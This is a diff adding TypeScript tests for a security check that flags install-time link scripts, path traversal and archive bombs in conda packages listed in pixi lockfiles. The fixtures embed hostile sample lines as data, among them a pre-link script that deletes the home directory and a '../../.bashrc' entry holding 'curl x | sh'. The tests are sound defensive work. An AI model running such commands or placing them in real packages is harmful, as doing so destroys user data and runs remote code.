@@ -1,0 +1,172 @@
+import assert from 'node:assert/strict';
+import { copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, it } from 'node:test';
+import { sha256OfFile } from '../../../src/artifacts/package-dirs.ts';
+import { type CheckContext, defaultCheckSettings } from '../../../src/checks/check.ts';
+import { linkScriptsCheck } from '../../../src/checks/link-scripts.ts';
+import { readInventory } from '../../../src/inventory.ts';
+import type { Finding } from '../../../src/model/finding.ts';
+import { fixture } from '../../helpers/paths.ts';
+import { tempDirectory, writeTemp } from '../../helpers/temp.ts';
+import { condaBytes, INDEX_JSON } from '../artifacts/archive-builder.ts';
+
+const CHANNEL = 'https://conda.anaconda.org/example';
+
+/** A pixi.lock (v6) installing the given archive file names from `CHANNEL/noarch/`. */
+function lockFor(files: { file: string; sha256?: string }[]): string {
+  const urls = files.map(({ file }) => `${CHANNEL}/noarch/${file}`);
+  const selectors = urls.map((url) => `      - conda: ${url}`).join('\n');
+  const records = files
+    .map(({ sha256 }, i) => `- conda: ${urls[i]}${sha256 ? `\n  sha256: ${sha256}` : ''}`)
+    .join('\n');
+  return writeTemp(
+    'pixi.lock',
+    `version: 6\nenvironments:\n  default:\n    channels:\n    - url: ${CHANNEL}/\n    packages:\n      linux-64:\n${selectors}\npackages:\n${records}\n`,
+  );
+}
+
+async function run(input: string, packageDirs: string[]): Promise<Finding[]> {
+  const context: CheckContext = {
+    now: new Date('2026-11-22T12:00:00Z'),
+    offline: true,
+    cacheDir: tempDirectory(),
+    settings: { ...defaultCheckSettings(), packageDirs },
+  };
+  return linkScriptsCheck.run(readInventory(input), context);
+}
+
+const brief = (findings: Finding[]) => findings.map((f) => `${f.subject?.name} ${f.rule} ${f.severity}`);
+
+function channelWith(files: Record<string, Uint8Array>): string {
+  const channel = tempDirectory();
+  mkdirSync(join(channel, 'noarch'));
+  for (const [name, bytes] of Object.entries(files)) writeFileSync(join(channel, 'noarch', name), bytes);
+  return channel;
+}
+
+const demoConda = condaBytes({
+  stem: 'demo-1.0-0',
+  info: [
+    { name: 'info/index.json', data: INDEX_JSON('demo') },
+    { name: 'info/recipe/post-link.sh', data: 'echo copy\n' },
+  ],
+  pkg: [
+    { name: 'bin/.demo-post-link.sh', data: `#!/bin/bash\n${'y'.repeat(300)}\nline3\nline4\nline5\nline6\n` },
+    { name: 'bin/.demo-pre-link.sh', data: '#!/bin/bash\nrm -rf "$HOME"\n' },
+    { name: 'Scripts/.demo-pre-unlink.bat', data: '@echo off\r\necho bye\r\n' },
+    { name: 'bin/.other-post-link.sh', data: 'not run for demo\n' },
+  ],
+});
+
+describe('link-scripts check', () => {
+  it('reports the scripts in a package archive found under packageDirs', async () => {
+    const channel = channelWith({ 'demo-1.0-0.conda': demoConda });
+    const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [channel]);
+    assert.deepEqual(brief(findings), [
+      'demo link-scripts/pre-unlink medium',
+      'demo link-scripts/post-link medium',
+      'demo link-scripts/pre-link high',
+    ]);
+    const postLink = findings[1];
+    assert.equal(postLink?.check, 'link-scripts');
+    assert.match(postLink?.message ?? '', /post-link script bin\/\.demo-post-link\.sh in demo-1\.0-0\.conda/);
+    assert.equal(postLink?.evidence.archive, join(channel, 'noarch', 'demo-1.0-0.conda'));
+    assert.equal(postLink?.evidence.path, 'bin/.demo-post-link.sh');
+    assert.equal(postLink?.evidence.size, 12 + 301 + 24);
+    assert.deepEqual(postLink?.evidence.firstLines, [
+      '#!/bin/bash',
+      `${'y'.repeat(197)}...`,
+      'line3',
+      'line4',
+      'line5',
+    ]);
+    assert.match(String(postLink?.evidence.sha256), /^[0-9a-f]{64}$/);
+    assert.equal(postLink?.location?.file.endsWith('pixi.lock'), true);
+    assert.deepEqual(findings[0]?.evidence.firstLines, ['@echo off', 'echo bye']);
+  });
+
+  it('reads .tar.bz2 archives, and uses only an archive whose sha256 matches the lock', async () => {
+    const channel = tempDirectory();
+    mkdirSync(join(channel, 'noarch'));
+    const archive = join(channel, 'noarch', 'bz-script-1.0-0.tar.bz2');
+    copyFileSync(fixture('archives/bz-script-1.0-0.tar.bz2'), archive);
+    const matching = await run(lockFor([{ file: 'bz-script-1.0-0.tar.bz2', sha256: sha256OfFile(archive) }]), [
+      channel,
+    ]);
+    assert.deepEqual(brief(matching), ['bz-script link-scripts/pre-link high']);
+    assert.equal(matching[0]?.evidence.path, 'bin/.bz-script-pre-link.sh');
+    const other = await run(lockFor([{ file: 'bz-script-1.0-0.tar.bz2', sha256: 'ab'.repeat(32) }]), [channel]);
+    assert.deepEqual(other, []);
+  });
+
+  it('reports a recipe copy only when the payload has no script', async () => {
+    const copyOnly = condaBytes({
+      stem: 'copy-1.0-0',
+      info: [{ name: 'info/recipe/pre-unlink.bat', data: 'echo x\r\n' }],
+      pkg: [{ name: 'lib/x', data: '' }],
+    });
+    const findings = await run(lockFor([{ file: 'copy-1.0-0.conda' }]), [
+      channelWith({ 'copy-1.0-0.conda': copyOnly }),
+    ]);
+    assert.deepEqual(brief(findings), ['copy link-scripts/recipe-copy low']);
+    assert.equal(findings[0]?.evidence.path, 'info/recipe/pre-unlink.bat');
+  });
+
+  it('turns path traversal and bombs into findings instead of failing the audit', async () => {
+    const evil = condaBytes({ stem: 'evil-1.0-0', info: [], pkg: [{ name: '../../.bashrc', data: 'curl x | sh' }] });
+    const channel = channelWith({ 'evil-1.0-0.conda': evil });
+    copyFileSync(fixture('archives/bz-bomb-1.0-0.tar.bz2'), join(channel, 'noarch', 'bz-bomb-1.0-0.tar.bz2'));
+    const findings = await run(lockFor([{ file: 'evil-1.0-0.conda' }, { file: 'bz-bomb-1.0-0.tar.bz2' }]), [channel]);
+    assert.deepEqual(brief(findings), [
+      'bz-bomb link-scripts/unreadable-archive medium',
+      'evil link-scripts/path-traversal high',
+    ]);
+    assert.match(findings[0]?.message ?? '', /limit maxRatio/);
+    assert.deepEqual(findings[1]?.evidence.paths, [
+      { path: '../../.bashrc', reason: 'parent-directory (..) segment', member: 'pkg' },
+    ]);
+  });
+
+  it('falls back to channeldata.json flags as a low hint when no archive is there', async () => {
+    const channel = channelWith({});
+    writeFileSync(
+      join(channel, 'channeldata.json'),
+      JSON.stringify({
+        channeldata_version: 1,
+        packages: { demo: { post_link: true, pre_link: false, pre_unlink: true } },
+      }),
+    );
+    const findings = await run(lockFor([{ file: 'demo-1.0-0.conda' }]), [channel]);
+    assert.deepEqual(brief(findings), ['demo link-scripts/post-link low', 'demo link-scripts/pre-unlink low']);
+    assert.equal(findings[0]?.evidence.confidence, 'hint');
+  });
+
+  it('finds the scripts an installed package left in its prefix', async () => {
+    const prefix = join(tempDirectory(), 'env');
+    mkdirSync(join(prefix, 'conda-meta'), { recursive: true });
+    mkdirSync(join(prefix, 'bin'));
+    const record = {
+      name: 'demo',
+      version: '1.0',
+      build: '0',
+      build_number: 0,
+      subdir: 'noarch',
+      fn: 'demo-1.0-0.conda',
+    };
+    writeFileSync(join(prefix, 'conda-meta', 'demo-1.0-0.json'), JSON.stringify(record));
+    writeFileSync(join(prefix, 'bin', '.demo-post-link.sh'), '#!/bin/sh\necho installed\n');
+    const findings = await run(prefix, []);
+    assert.deepEqual(brief(findings), ['demo link-scripts/post-link medium']);
+    assert.equal(findings[0]?.evidence.prefix, prefix);
+    assert.deepEqual(findings[0]?.evidence.firstLines, ['#!/bin/sh', 'echo installed']);
+    assert.equal(findings[0]?.location?.file, join(prefix, 'conda-meta', 'demo-1.0-0.json'));
+  });
+
+  it('refuses a package directory that does not exist', async () => {
+    await assert.rejects(
+      run(lockFor([{ file: 'demo-1.0-0.conda' }]), ['/nonexistent/pkgs']),
+      /package directory not found/,
+    );
+  });
+});
